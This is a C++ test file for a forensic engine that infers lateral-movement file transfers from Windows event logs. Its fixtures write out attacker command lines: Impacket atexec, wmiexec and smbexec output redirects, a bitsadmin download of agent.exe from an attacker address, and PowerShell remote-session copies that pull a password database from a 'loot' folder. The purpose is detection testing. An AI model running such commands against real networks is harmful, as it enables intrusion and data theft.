// Windows remote-execution procedures (issue 14 item 4) on small cases built through the real
// ImportEngine: Impacket atexec / wmiexec / smbexec output read back over SMB (a pull from the
// target to the reader), BITS jobs from an internal URL or a UNC path, the look-alikes that must
// stay out (ordinary reads, loopback reads, internet downloads, failed jobs), and the payload field
// reader the rules use for records no table normalises.

#include "InferenceFixtures.h"

#include "core/ImportEngine.h"
#include "inference/CommandParser.h"
#include "inference/InferenceEngine.h"
#include "inference/OutputReadRule.h"
#include "inference/TransferQuery.h"
#include "store/CaseStore.h"
#include "store/Sqlite.h"
#include "store/WindowsActivity.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace tt;
using namespace fixtures;

namespace {
constexpr const char *kDst = "WS6.corp.local";
constexpr const char *kAttackerIp = "10.1.1.5";
constexpr const char *kBits = "Microsoft-Windows-Bits-Client/Operational";
constexpr const char *kSrc = "WS5.corp.local";
constexpr double kSkew = 6; // WS6's clock runs 6 s ahead of WS5's

QString s(const char *v)
{
    return QString::fromLatin1(v);
}

QByteArray shareRead(qint64 ms, const char *ip, const char *logonId, const char *share, const char *root,
    const char *rel, const char *mask = "0x1")
{
    return shareCheck(kDst, ms, ip, 50100, logonId, share, root, rel, mask);
}

QByteArray bits(int id, qint64 ms, Fields fields)
{
    return event(kDst, id, ms, kBits, "Microsoft-Windows-Bits-Client", fields);
}

QByteArray scriptBlock(const char *host, qint64 ms, const char *text)
{
    return event(host, 4104, ms, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell",
        {{"MessageNumber", s("1")}, {"MessageTotal", s("1")}, {"ScriptBlockText", s(text)},
            {"ScriptBlockId", s("7319562f-1401-46e1-92a8-57c1f8c05b33")}, {"Path", s("")}});
}

// The receiving end of a remoting copy: the session's logon, wsmprovhost.exe, its writes.
QByteArray wsmanReceives(double t, const char *path)
{
    QByteArray b;
    b += logon(kDst, at(t), kAttackerIp, 50200, "0x8000");
    b += process(kDst, at(t + 0.2), "{00000000-0000-0000-0000-0000000000c1}", 3000,
        "C:\\Windows\\System32\\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", "CORP\\admin",
        "0x8000", "C:\\Windows\\System32\\svchost.exe");
    // What every session writes for itself: no transfer.
    b += fileCreate(kDst, at(t + 0.5), "C:\\Windows\\System32\\wsmprovhost.exe",
        "C:\\Users\\admin\\AppData\\Local\\Temp\\__PSScriptPolicyTest_dmojmlgn.j2j.ps1", 3000);
    b += fileCreate(kDst, at(t + 0.6), "C:\\Windows\\System32\\wsmprovhost.exe",
        "C:\\Users\\admin\\AppData\\Local\\Microsoft\\CLR_v4.0\\UsageLogs\\wsmprovhost.exe.log", 3000);
    b += fileCreate(kDst, at(t + 2), "C:\\Windows\\System32\\wsmprovhost.exe", path, 3000);
    return b;
}

QByteArray taskCreated(qint64 ms, const char *logonId, const char *command, const char *arguments)
{
    const QString xml = QStringLiteral("<?xml version='1.0' encoding='UTF-16'?><Task version='1.2' "
                                       "xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'>"
                                       "<Actions Context='LocalSystem'><Exec><Command>%1</Command>"
                                       "<Arguments>%2</Arguments></Exec></Actions></Task>")
                            .arg(s(command), s(arguments));
    return security(kDst, 4698, ms,
        {{"SubjectUserName", s("admin")}, {"SubjectDomainName", s("CORP")}, {"SubjectLogonId", s(logonId)},
            {"TaskName", s("\\\\bouWFQYO")}, {"TaskContent", xml}});
}

QByteArray bitsJob(double t, const char *jobId, const char *url, const char *transferred, const char *total)
{
    QByteArray b;
    b += bits(3, at(t),
        {{"jobTitle", s("job")}, {"jobId", s(jobId)}, {"jobOwner", s("CORP\\admin")},
            {"processPath", s("C:\\Windows\\System32\\bitsadmin.exe")}, {"processId", s("1020")}});
    b += bits(59, at(t + 1),
        {{"transferId", s("{11111111-0000-0000-0000-000000000000}")}, {"name", s("job")}, {"Id", s(jobId)},
            {"url", s(url)}, {"bytesTotal", s(total)}, {"bytesTransferred", s("0")}});
    b += bits(60, at(t + 2),
        {{"transferId", s("{11111111-0000-0000-0000-000000000000}")}, {"name", s("job")}, {"Id", s(jobId)},
            {"url", s(url)}, {"hr", s("0")}, {"bytesTotal", s(total)}, {"bytesTransferred", s(transferred)}});
    return b;
}
} // namespace

class TstInferenceWinproc : public QObject {
    Q_OBJECT
private:
    CaseFactory m_cases;

    std::unique_ptr<store::CaseStore> makeCase(const QByteArray &lines) { return m_cases.fromLines(lines); }
    static std::vector<inference::TransferRow> infer(store::CaseStore &cs) { return inferTransfers(cs); }

    static QStringList roles(store::CaseStore &cs, int64_t transfer)
    {
        QStringList out;
        auto st = cs.db().prepare("SELECT DISTINCT role FROM transfer_evidence WHERE transfer_id=?1 ORDER BY role");
        st.bind(1, transfer);
        while (st.step())
            out << QString::fromStdString(st.text(0));
        return out;
    }

private slots:
    // atexec: the task runs `cmd.exe /C whoami > C:\Windows\Temp\X.tmp`, the attacker's session
    // reads ADMIN$\Temp\X.tmp until it is complete.
    void atexecOutputIsPulledByTheReader()
    {
        QByteArray b;
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += process(kDst, at(11), "{00000000-0000-0000-0000-0000000000a1}", 900, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1", "NT AUTHORITY\\SYSTEM", "0x3e7",
            "C:\\Windows\\System32\\svchost.exe");
        b += shareRead(at(11.1), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\bouWFQYO.tmp");
        b += shareRead(at(14.1), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\bouWFQYO.tmp");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.source, std::string("WS6"));
        QCOMPARE(r.destination, std::string(kAttackerIp)); // the reader, known by address
        QCOMPARE(r.file, std::string("bouWFQYO.tmp"));
        QCOMPARE(r.srcPath, std::string("C:\\Windows\\Temp\\bouWFQYO.tmp"));
        QCOMPARE(r.path, std::string());
        QCOMPARE(r.method, std::string("smb-admin-share"));
        QCOMPARE(r.direction, std::string("pull"));
        QCOMPARE(r.account, std::string("CORP\\admin"));
        QCOMPARE(r.rules, std::string("smb-output-read"));
        QCOMPARE(roles(*cs, r.id), (QStringList {"src-connect", "src-output", "src-read"}));
        QCOMPARE(r.confidenceLabel, std::string("medium"));
        QCOMPARE(r.evidence, 4); // two reads, the command, the logon
    }

    // wmiexec: `cmd.exe /Q /c ... 1> \\127.0.0.1\ADMIN$\__<epoch>`: the loopback write is local,
    // the remote read of the same file is the transfer.
    void wmiexecLoopbackWriteThenRemoteRead()
    {
        QByteArray b;
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += process(kDst, at(11), "{00000000-0000-0000-0000-0000000000a2}", 901, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1619090610.0007844 2>&1", "NT AUTHORITY\\NETWORK SERVICE",
            "0x3e4", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
        b += shareCheck(kDst, at(11.01), "127.0.0.1", 49997, "0x7100", "\\\\*\\ADMIN$", "\\??\\C:\\Windows",
            "__1619090610.0007844", "0x2");
        b += shareRead(at(11.02), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "__1619090610.0007844");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].source, std::string("WS6"));
        QCOMPARE(rows[0].destination, std::string(kAttackerIp));
        QCOMPARE(rows[0].file, std::string("__1619090610.0007844"));
        QCOMPARE(rows[0].srcPath, std::string("C:\\Windows\\__1619090610.0007844"));
        QCOMPARE(rows[0].direction, std::string("pull"));
        QCOMPARE(rows[0].evidence, 4); // read, command, loopback write, logon
    }

    // smbexec: the service is the command writing \\127.0.0.1\C$\__output; its install is output evidence.
    void smbexecServiceIsOutputEvidence()
    {
        QByteArray b;
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += service(kDst, at(11), "BTOBTO",
            "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c "
            "%TEMP%\\execute.bat & del %TEMP%\\execute.bat");
        b += shareRead(at(11.2), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "__output");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1)); // the command service itself is no drop
        QCOMPARE(rows[0].file, std::string("__output"));
        QCOMPARE(rows[0].direction, std::string("pull"));
        QCOMPARE(rows[0].evidence, 3); // read, service install, logon
    }

    // smbexec's fixed output name alone (no process auditing): still the tool's output, lower score.
    void smbexecOutputByNameOnly()
    {
        QByteArray b;
        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "__output");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].file, std::string("__output"));
        QCOMPARE(rows[0].srcPath, std::string("C:\\__output"));
        QCOMPARE(rows[0].method, std::string("smb-admin-share"));
        QCOMPARE(rows[0].direction, std::string("pull"));
        QCOMPARE(rows[0].confidenceLabel, std::string("medium")); // 0.58: read + its name
    }

    // Reads that are no tool output stay out: an ordinary document, a file no command redirected
    // into, a loopback read of an output file, an output file read over IPC$.
    void readsThatAreNoOutput()
    {
        QByteArray b;
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "Users\\Public\\report.docx");
        b += process(kDst, at(20), "{00000000-0000-0000-0000-0000000000a3}", 902, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c type C:\\Windows\\Temp\\notes.txt", "CORP\\admin", "0x7000");
        b += shareRead(at(21), kAttackerIp, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\notes.txt");
        b += shareRead(at(30), "127.0.0.1", "0x7100", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\abcdefgh.tmp");
        b += shareRead(at(31), kAttackerIp, "0x7000", "\\\\*\\IPC$", "", "__output");
        auto cs = makeCase(b);
        QVERIFY(cs);
        QCOMPARE(infer(*cs).size(), size_t(0));
    }

    // smb-read (issue 10 item 5): the reader WS5 (10.1.1.5 by its own Sysmon 3) reads a program
    // whole from WS6's share (5145 ReadData), then creates and runs it: a pull WS6 -> WS5.
    void smbReadOfAToolIsAPull()
    {
        QByteArray b;
        b += netConnect(kSrc, at(9), true, kAttackerIp, 50100, "10.1.1.6", 445);
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\Share", "\\??\\D:\\Share", "Tools\\tool.exe");
        b += shareRead(at(11.5), kAttackerIp, "0x7000", "\\\\*\\Share", "\\??\\D:\\Share", "Tools\\tool.exe");
        b += fileCreate(kSrc, at(12), "C:\\Windows\\explorer.exe", "C:\\Users\\admin\\Downloads\\tool.exe", 2400);
        b += process(kSrc, at(40), "{00000000-0000-0000-0000-0000000000d1}", 2500,
            "C:\\Users\\admin\\Downloads\\tool.exe", "tool.exe -q");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.source, std::string("WS6"));
        QCOMPARE(r.destination, std::string("WS5"));
        QCOMPARE(r.file, std::string("tool.exe"));
        QCOMPARE(r.srcPath, std::string("D:\\Share\\Tools\\tool.exe"));
        QCOMPARE(r.path, std::string("C:\\Users\\admin\\Downloads\\tool.exe"));
        QCOMPARE(r.method, std::string("smb-share"));
        QCOMPARE(r.direction, std::string("pull"));
        QCOMPARE(r.account, std::string("CORP\\admin"));
        QVERIFY2(QString::fromStdString(r.rules).contains(QStringLiteral("smb-read")), r.rules.c_str());
        QVERIFY(roles(*cs, r.id).contains(QStringLiteral("src-read")));
        QVERIFY(roles(*cs, r.id).contains(QStringLiteral("dst-create")));
        QVERIFY(r.executed);
    }

    // Reads that stay reads: nothing of the file on the reader, a document, a SYSVOL logon script,
    // a program pushed into the share earlier and read back.
    void smbReadsThatAreNoPull()
    {
        QByteArray b;
        b += netConnect(kSrc, at(9), true, kAttackerIp, 50100, "10.1.1.6", 445);
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\Share", "\\??\\D:\\Share", "Tools\\unseen.exe");
        b += shareRead(at(12), kAttackerIp, "0x7000", "\\\\*\\Share", "\\??\\D:\\Share", "report.docx");
        b += fileCreate(kSrc, at(13), "C:\\Windows\\explorer.exe", "C:\\Users\\admin\\report.docx", 2400);
        b += shareRead(at(14), kAttackerIp, "0x7000", "\\\\*\\SYSVOL", "\\??\\C:\\Windows\\SYSVOL\\sysvol",
            "corp.local\\scripts\\logon.bat");
        b += process(kSrc, at(15), "{00000000-0000-0000-0000-0000000000d2}", 2600, "C:\\Windows\\SYSVOL\\logon.bat",
            "logon.bat");
        b += shareCheck(
            kDst, at(20), kAttackerIp, 50100, "0x7000", "\\\\*\\Share", "\\??\\D:\\Share", "Tools\\pushed.exe", "0x2");
        b += shareRead(at(21), kAttackerIp, "0x7000", "\\\\*\\Share", "\\??\\D:\\Share", "Tools\\pushed.exe");
        b += process(kSrc, at(25), "{00000000-0000-0000-0000-0000000000d3}", 2700, "\\\\WS6\\Share\\Tools\\pushed.exe",
            "pushed.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        for (const auto &r : infer(*cs))
            QVERIFY2(r.direction != "pull", (r.file + " pulled by " + r.rules).c_str());
    }

    // Code run straight from another host's share (rule "remote-image"): a module load with a UNC
    // ImageLoaded (Sysmon 7) and a process started from a share (Sysmon 1) are pulls from the host
    // the path names; its loads within the session gap are one transfer; the VM's own host
    // (\\VBOXSVR), \\tsclient, loopback, SYSVOL and local images are no transfer.
    void codeRunFromAShareIsAPull()
    {
        auto imageLoad = [](qint64 ms, const char *image, const char *loaded, const char *user = "") {
            return sysmon(kDst, 7, ms,
                {{"ProcessGuid", s("{00000000-0000-0000-0000-0000000000e1}")}, {"ProcessId", s("636")},
                    {"Image", s(image)}, {"ImageLoaded", s(loaded)},
                    {"Hashes", s("SHA256=266E4E2970FFB24EE63108F25AAC6EE8359F86728D045097D6E6309CE249BD70")},
                    {"Signed", s("false")}, {"User", s(user)}}); // User: Sysmon >= 13.30
        };
        QByteArray b;
        b += imageLoad(at(10), "C:\\Windows\\System32\\lsass.exe", "\\\\10.9.9.9\\shared\\lsadb.dll");
        b += imageLoad(at(22), "C:\\Windows\\System32\\lsass.exe", "\\\\10.9.9.9\\shared\\lsadb.dll");
        b += imageLoad(at(30), "C:\\Windows\\System32\\rundll32.exe", "\\\\FS01\\tools\\beacon.dll", "CORP\\bob");
        b += process(kDst, at(40), "{00000000-0000-0000-0000-0000000000e2}", 700, "\\\\FS01\\C$\\Temp\\run.exe",
            "\\\\FS01\\C$\\Temp\\run.exe -x", "CORP\\bob");
        // No transfer: local, loopback, the hypervisor's shared folder, \\tsclient, SYSVOL.
        b += imageLoad(at(50), "C:\\x.exe", "C:\\Windows\\System32\\ntdll.dll");
        b += imageLoad(at(51), "C:\\x.exe", "\\\\127.0.0.1\\C$\\Temp\\a.dll");
        b += imageLoad(at(52), "C:\\x.exe", "\\\\?\\C:\\Temp\\b.dll");
        b += process(
            kDst, at(53), "{00000000-0000-0000-0000-0000000000e3}", 710, "\\\\VBOXSVR\\tools\\msxsl.exe", "msxsl.exe");
        b += process(kDst, at(54), "{00000000-0000-0000-0000-0000000000e4}", 720,
            "\\\\vmware-host\\Shared Folders\\t.exe", "t.exe");
        b += imageLoad(at(55), "C:\\x.exe", "\\\\corp.local\\SYSVOL\\corp.local\\scripts\\gpo.dll");
        b += imageLoad(at(56), "C:\\x.exe", "\\\\tsclient\\C\\t\\c.dll");
        auto cs = makeCase(b);
        QVERIFY(cs);
        // Stored: the UNC loads (the two of 10.9.9.9, FS01, loopback, SYSVOL, tsclient), not local ones.
        QCOMPARE(cs->db().queryInt("SELECT count(*) FROM file_events WHERE kind='image-load'"), int64_t(6));
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(3));
        std::map<std::string, const inference::TransferRow *> byFile;
        for (const auto &r : rows)
            byFile[r.file] = &r;
        QVERIFY(byFile.count("lsadb.dll") && byFile.count("beacon.dll") && byFile.count("run.exe"));
        const auto &lsa = *byFile["lsadb.dll"];
        QCOMPARE(lsa.source, std::string("10.9.9.9"));
        QCOMPARE(lsa.destination, std::string("WS6"));
        QCOMPARE(lsa.direction, std::string("pull"));
        QCOMPARE(lsa.method, std::string("smb-share"));
        QCOMPARE(lsa.account, std::string()); // lsass: SYSTEM, no person
        QCOMPARE(lsa.srcPath, std::string("\\\\10.9.9.9\\shared\\lsadb.dll"));
        QVERIFY(lsa.executed);
        QCOMPARE(lsa.confidenceLabel, std::string("medium"));
        QCOMPARE(roles(*cs, lsa.id), QStringList {QStringLiteral("dst-image-load")});
        QCOMPARE(
            cs->db().queryInt("SELECT count(*) FROM transfer_evidence WHERE transfer_id=" + std::to_string(lsa.id)),
            int64_t(2)); // both loads, one transfer
        const auto &dll = *byFile["beacon.dll"];
        QCOMPARE(dll.source, std::string("FS01"));
        QCOMPARE(dll.account, std::string("CORP\\bob"));
        const auto &run = *byFile["run.exe"];
        QCOMPARE(run.source, std::string("FS01"));
        QCOMPARE(run.method, std::string("smb-admin-share"));
        QCOMPARE(run.srcPath, std::string("C:\\Temp\\run.exe")); // C$ is the source's C:
        QCOMPARE(run.account, std::string("CORP\\bob"));
        QCOMPARE(roles(*cs, run.id), (QStringList {QStringLiteral("dst-command"), QStringLiteral("dst-exec")}));
    }

    void toolOutputName_data()
    {
        QTest::addColumn<QString>("share");
        QTest::addColumn<QString>("rel");
        QTest::addColumn<bool>("expected");
        QTest::newRow("atexec") << "ADMIN$"
                                << "Temp\\bouWFQYO.tmp" << true;
        QTest::newRow("atexec lower case") << "admin$"
                                           << "temp\\cyalynss.tmp" << true;
        QTest::newRow("wmiexec") << "ADMIN$"
                                 << "__1619425227.894209" << true;
        QTest::newRow("wmiexec whole seconds") << "ADMIN$"
                                               << "__1619425227" << true;
        QTest::newRow("smbexec") << "C$"
                                 << "__output" << true;
        QTest::newRow("tmp with digits") << "ADMIN$"
                                         << "Temp\\bou1FQYO.tmp" << false;
        QTest::newRow("tmp of 7 letters") << "ADMIN$"
                                          << "Temp\\bouWFQY.tmp" << false;
        QTest::newRow("tmp elsewhere") << "C$"
                                       << "Temp\\bouWFQYO.tmp" << false;
        QTest::newRow("epoch in a folder") << "ADMIN$"
                                           << "Temp\\__1619425227.89" << false;
        QTest::newRow("two dots") << "ADMIN$"
                                  << "__1.2.3" << false;
        QTest::newRow("__output on ADMIN$") << "ADMIN$"
                                            << "__output" << false;
        QTest::newRow("__output on a data share") << "data"
                                                  << "__output" << false;
    }

    void toolOutputName()
    {
        QFETCH(QString, share);
        QFETCH(QString, rel);
        QFETCH(bool, expected);
        QCOMPARE(inference::OutputReadRule::toolOutputName(share.toStdString(), rel.toStdString()), expected);
    }

    void redirectsInto_data()
    {
        QTest::addColumn<QString>("cmd");
        QTest::addColumn<QString>("leaf");
        QTest::addColumn<bool>("expected");
        QTest::newRow("atexec") << "cmd.exe /C whoami > C:\\Windows\\Temp\\bouWFQYO.tmp 2>&1"
                                << "bouWFQYO.tmp" << true;
        QTest::newRow("wmiexec") << "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1619090610.0007844 2>&1"
                                 << "__1619090610.0007844" << true;
        QTest::newRow("smbexec escaped")
            << "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"
            << "__output" << true;
        QTest::newRow("quoted") << "cmd /c dir > \"C:\\Windows\\Temp\\out file.txt\""
                                << "out file.txt" << true;
        QTest::newRow("read, no redirect") << "cmd /c type C:\\Windows\\Temp\\notes.txt"
                                           << "notes.txt" << false;
        QTest::newRow("redirect elsewhere") << "cmd /c type C:\\x\\notes.txt > C:\\y\\other.txt"
                                            << "notes.txt" << false;
        QTest::newRow("longer name") << "cmd /c dir > C:\\Windows\\Temp\\notes.txt.bak"
                                     << "notes.txt" << false;
        QTest::newRow("suffix of a name") << "cmd /c dir > C:\\Windows\\Temp\\mynotes.txt"
                                          << "notes.txt" << false;
        QTest::newRow("short name") << "cmd /c dir > a.b"
                                    << "a.b" << false;
    }

    void redirectsInto()
    {
        QFETCH(QString, cmd);
        QFETCH(QString, leaf);
        QFETCH(bool, expected);
        QCOMPARE(inference::OutputReadRule::redirectsInto(cmd.toStdString(), leaf.toStdString()), expected);
    }

    // bitsadmin from an internal web server: 3 (owner), 59, 60 with every byte: a pull.
    void bitsJobFromInternalUrl()
    {
        auto cs = makeCase(bitsJob(
            10, "{6F364A04-0000-0000-0000-000000000001}", "http://10.1.1.5:80/tools/agent.exe", "32256", "32256"));
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.source, std::string(kAttackerIp));
        QCOMPARE(r.destination, std::string("WS6"));
        QCOMPARE(r.file, std::string("agent.exe"));
        QCOMPARE(r.method, std::string("http"));
        QCOMPARE(r.direction, std::string("pull"));
        QCOMPARE(r.account, std::string("CORP\\admin")); // the job owner of its 3
        QCOMPARE(r.rules, std::string("bits-job"));
        QCOMPARE(roles(*cs, r.id), (QStringList {"dst-command", "dst-create"}));
        QCOMPARE(r.confidenceLabel, std::string("medium"));
    }

    // BITS logs bytesTotal 18446744073709551615 (UINT64_MAX) while the size is unknown (the
    // corpus' T1197 recordings do): read as "unknown", never as an overflowed number (UBSan).
    void bitsJobOfUnknownSize()
    {
        auto cs = makeCase(bitsJob(10, "{6F364A04-0000-0000-0000-000000000009}", "http://10.1.1.5:80/tools/agent.exe",
            "32256", "18446744073709551615"));
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].file, std::string("agent.exe"));
        QCOMPARE(rows[0].rules, std::string("bits-job"));
    }

    // A UNC remote name (BITS over SMB): the share's host is the source.
    void bitsJobFromShare()
    {
        QByteArray b = bitsJob(
            10, "{6F364A04-0000-0000-0000-000000000002}", "\\\\FS01\\ADMIN$\\Temp\\stage.dll", "4096", "4096");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].source, std::string("FS01"));
        QCOMPARE(rows[0].file, std::string("stage.dll"));
        QCOMPARE(rows[0].srcPath, std::string("C:\\Windows\\Temp\\stage.dll"));
        QCOMPARE(rows[0].method, std::string("smb-admin-share"));
        QCOMPARE(rows[0].direction, std::string("pull"));
    }

    // The internet (a public name the case does not know), a job that moved nothing, and a job
    // from this host itself are no transfers.
    void bitsJobLookAlikes()
    {
        QByteArray b;
        b += bitsJob(10, "{6F364A04-0000-0000-0000-000000000003}",
            "https://releases.ubuntu.com/20.04.3/ubuntu-20.04.3-desktop-amd64.iso", "3071934464", "3071934464");
        b += bitsJob(20, "{6F364A04-0000-0000-0000-000000000004}", "http://10.1.1.7/x/failed.exe", "0", "2048");
        b += bitsJob(30, "{6F364A04-0000-0000-0000-000000000005}", "http://localhost/x/self.exe", "10", "10");
        auto cs = makeCase(b);
        QVERIFY(cs);
        QCOMPARE(infer(*cs).size(), size_t(0));
    }

    // bitsadmin's command line and the job's records are one transfer: the command adds the local path.
    void bitsJobMergesWithItsCommand()
    {
        QByteArray b = bitsJob(
            10, "{6F364A04-0000-0000-0000-000000000006}", "http://10.1.1.5/tools/agent.exe", "32256", "32256");
        b += process(kDst, at(9.5), "{00000000-0000-0000-0000-0000000000b1}", 1020,
            "C:\\Windows\\System32\\bitsadmin.exe",
            "bitsadmin /transfer job /download http://10.1.1.5/tools/agent.exe C:\\Users\\Public\\agent.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].path, std::string("C:\\Users\\Public\\agent.exe"));
        QCOMPARE(rows[0].rules, std::string("bits-job,source-command"));
        // The command and the job's 59 are one kind of fact (the destination asked for the file).
        QCOMPARE(rows[0].confidenceLabel, std::string("medium"));
    }

    // Copy-Item -ToSession seen from both ends: the script on WS5, wsmprovhost writing on WS6.
    void psRemotingCopyBothEnds()
    {
        QByteArray b;
        b += scriptBlock(kSrc, at(10), "$s = New-PSSession -ComputerName WS6 -Credential $cred");
        b += scriptBlock(
            kSrc, at(12), "Copy-Item -Path C:\\tools\\agent.exe -Destination C:\\Windows\\Temp\\ -ToSession $s -Force");
        b += wsmanReceives(12 + kSkew, "C:\\Windows\\Temp\\agent.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.source, std::string("WS5"));
        QCOMPARE(r.destination, std::string("WS6"));
        QCOMPARE(r.file, std::string("agent.exe"));
        QCOMPARE(r.path, std::string("C:\\Windows\\Temp\\agent.exe"));
        QCOMPARE(r.srcPath, std::string("C:\\tools\\agent.exe"));
        QCOMPARE(r.method, std::string("winrm"));
        QCOMPARE(r.direction, std::string("push"));
        QCOMPARE(r.account, std::string("CORP\\admin"));
        QCOMPARE(r.rules, std::string("ps-remoting-copy,winrm-write"));
        QCOMPARE(
            roles(*cs, r.id), (QStringList {"dst-command", "dst-create", "dst-logon", "src-command", "src-connect"}));
        QCOMPARE(r.confidenceLabel, std::string("high"));
    }

    // Only the receiving end: the session's logon names the source by address.
    void winrmWriteDestinationOnly()
    {
        auto cs = makeCase(wsmanReceives(20, "C:\\ProgramData\\svc.dll"));
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].source, std::string(kAttackerIp));
        QCOMPARE(rows[0].destination, std::string("WS6"));
        QCOMPARE(rows[0].path, std::string("C:\\ProgramData\\svc.dll"));
        QCOMPARE(rows[0].method, std::string("winrm"));
        QCOMPARE(rows[0].account, std::string("CORP\\admin"));
        QCOMPARE(rows[0].confidenceLabel, std::string("medium"));
    }

    // -FromSession with an inline session: a pull from the session's computer.
    void psRemotingCopyFromSession()
    {
        auto cs = makeCase(scriptBlock(kSrc, at(10),
            "Copy-Item -FromSession (New-PSSession -ComputerName FS01) -Path C:\\loot\\db.kdbx -Destination "
            "C:\\Users\\Public\\"));
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].source, std::string("FS01"));
        QCOMPARE(rows[0].destination, std::string("WS5"));
        QCOMPARE(rows[0].file, std::string("db.kdbx"));
        QCOMPARE(rows[0].srcPath, std::string("C:\\loot\\db.kdbx"));
        QCOMPARE(rows[0].path, std::string("C:\\Users\\Public\\db.kdbx"));
        QCOMPARE(rows[0].direction, std::string("pull"));
    }

    // A copy to a session whose computer no script names, a local Copy-Item: no transfer.
    void psRemotingLookAlikes()
    {
        QByteArray b;
        b += scriptBlock(kSrc, at(10), "Copy-Item C:\\a\\x.exe C:\\b\\ -ToSession $unknown");
        b += scriptBlock(kSrc, at(11), "Copy-Item C:\\a\\x.exe C:\\b\\x.exe -Force");
        b += scriptBlock(kSrc, at(12), "$s = New-PSSession -ComputerName localhost");
        b += scriptBlock(kSrc, at(13), "Copy-Item C:\\a\\y.exe C:\\b\\ -ToSession $s");
        auto cs = makeCase(b);
        QVERIFY(cs);
        QCOMPARE(infer(*cs).size(), size_t(0));
    }

    void parseSessionCopies_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QString>("expected"); // "push|session|path|destination", "; " between copies
        QTest::newRow("named") << "Copy-Item -Path C:\\x\\a.exe -Destination C:\\t\\ -ToSession $s"
                               << "push|$s|C:\\x\\a.exe|C:\\t\\";
        QTest::newRow("positional") << "Copy-Item 'C:\\x\\a b.exe' C:\\t -ToSession $sess -Force"
                                    << "push|$sess|C:\\x\\a b.exe|C:\\t";
        QTest::newRow("from session") << "cpi -FromSession $s C:\\loot\\k.kdbx ."
                                      << "pull|$s|C:\\loot\\k.kdbx|.";
        QTest::newRow("inline") << "Copy-Item C:\\a.ps1 -Destination C:\\ -ToSession (New-PSSession -cn FS01)"
                                << "push|FS01|C:\\a.ps1|C:\\";
        QTest::newRow("two statements") << "$s = New-PSSession WS6; Copy-Item C:\\a.exe C:\\t -ToSession $s"
                                        << "push|$s|C:\\a.exe|C:\\t";
        QTest::newRow("no session") << "Copy-Item C:\\a.exe \\\\WS6\\C$\\t"
                                    << "";
        QTest::newRow("folder") << "Copy-Item C:\\tools -Destination C:\\t -ToSession $s -Recurse"
                                << "";
        QTest::newRow("wildcard") << "Copy-Item C:\\tools\\*.exe C:\\t -ToSession $s"
                                  << "";
    }

    void parseSessionCopies()
    {
        QFETCH(QString, script);
        QFETCH(QString, expected);
        QStringList got;
        for (const auto &c : inference::CommandParser::parseSessionCopies(script.toStdString()))
            got << QStringLiteral("%1|%2|%3|%4")
